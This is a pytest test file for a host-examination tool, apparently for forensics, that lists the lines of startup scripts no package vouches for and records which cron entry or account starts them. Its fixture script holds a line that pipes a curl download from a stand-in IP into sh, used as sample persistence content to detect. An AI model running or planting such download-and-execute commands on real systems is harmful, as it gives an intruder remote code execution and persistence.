"""Lines of started scripts that no package vouches for."""

from pathlib import Path

import pytest

from hemostat.examine.baseline import build_facts
from hemostat.examine.script_lines import SCRIPT_LIMIT, script_lines
from hemostat.model.coverage import CoverageEntry, Outcome
from hemostat.model.evidence import Source
from hemostat.model.path import HostPath
from hemostat.model.records import Mechanism, ScriptLine, Startup
from made_roots import install_dpkg, put, tree_of

SCRIPT = b"#!/bin/sh\n# fetch\ncurl -s http://198.51.100.7/a \\\n  | sh\nexit 0\n"


def startup(*programs: str) -> Startup:
    return Startup(
        mechanism=Mechanism.CRON,
        technique="T1053.003",
        account="root",
        programs=tuple(HostPath(path) for path in programs),
        place=HostPath("/etc/cron.d/x"),
    )


def lines_of(
    root: Path, *programs: str, running: dict[HostPath, str] | None = None
) -> tuple[tuple[ScriptLine, ...], tuple[CoverageEntry, ...]]:
    tree = tree_of(root)
    wanted = {HostPath(path): {"starts"} for path in (*programs, *(running or {}))}
    facts, _ = build_facts(tree, wanted)
    return script_lines(tree, facts, [startup(*programs)] if programs else [], running)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    install_dpkg(tmp_path, "tool", {"/usr/bin/tool": SCRIPT})
    return tmp_path


@pytest.mark.requirement("B5.4", "A4.13")
def test_an_unowned_script_gives_its_logical_lines_and_who_starts_it(root: Path) -> None:
    put(root, "/opt/run.sh", SCRIPT, 0o755)
    lines, coverage = lines_of(root, "/opt/run.sh")
    assert [(line.source.line, line.command) for line in lines] == [
        (3, "curl -s http://198.51.100.7/a  | sh"),
        (5, "exit 0"),
    ]
    first = lines[0]
    assert (first.started_by, first.mechanism, first.technique, first.account) == (
        "/etc/cron.d/x",
        "cron",
        "T1053.003",
        "root",
    )
    assert coverage == ()


def test_a_packaged_script_is_not_read_and_a_changed_one_is(root: Path) -> None:
    put(root, "/usr/bin/tool", SCRIPT, 0o755)
    assert lines_of(root, "/usr/bin/tool")[0] == ()
    put(root, "/usr/bin/tool", SCRIPT + b"id\n", 0o755)
    assert len(lines_of(root, "/usr/bin/tool")[0]) == 3


def test_one_script_under_two_names_is_read_once(root: Path) -> None:
    put(root, "/opt/run.sh", SCRIPT, 0o755)
    (root / "opt/link.sh").symlink_to("run.sh")
    assert len(lines_of(root, "/opt/run.sh", "/opt/link.sh")[0]) == 2


@pytest.mark.parametrize("place", ["/home/li/.bashrc", "/etc/rc.local"])
def test_a_file_whose_lines_are_startups_is_not_read_twice(root: Path, place: str) -> None:
    put(root, place, SCRIPT)
    profile = place == "/home/li/.bashrc"
    own = Startup(
        source=Source(path=HostPath(place), line=3, text="curl"),
        mechanism=Mechanism.SHELL_PROFILE if profile else Mechanism.RC_LOCAL,
        place=HostPath(place),
    )
    sourcing = startup(place)
    facts, _ = build_facts(tree_of(root), {HostPath(place): {"starts"}})
    assert script_lines(tree_of(root), facts, [sourcing, own])[0] == ()
    assert len(script_lines(tree_of(root), facts, [sourcing])[0]) == 2


def test_a_running_script_names_its_account(root: Path) -> None:
    put(root, "/opt/run.sh", SCRIPT, 0o755)
    lines, _ = lines_of(root, running={HostPath("/opt/run.sh"): "www-data"})
    assert {(line.account, line.started_by) for line in lines} == {("www-data", "")}


def test_programs_that_are_no_scripts_are_left_alone(root: Path) -> None:
    put(root, "/opt/run", b"\x7fELF", 0o755)
    assert lines_of(root, "/opt/run", "/opt/none") == ((), ())


def test_of_a_huge_script_the_beginning_is_read_and_the_cut_told(root: Path) -> None:
    put(root, "/opt/run.sh", b"#!/bin/sh\nid\n" + b"#" * SCRIPT_LIMIT, 0o755)
    lines, coverage = lines_of(root, "/opt/run.sh")
    assert [line.command for line in lines] == ["id"]
    assert [entry.outcome for entry in coverage] == [Outcome.TOO_LARGE]
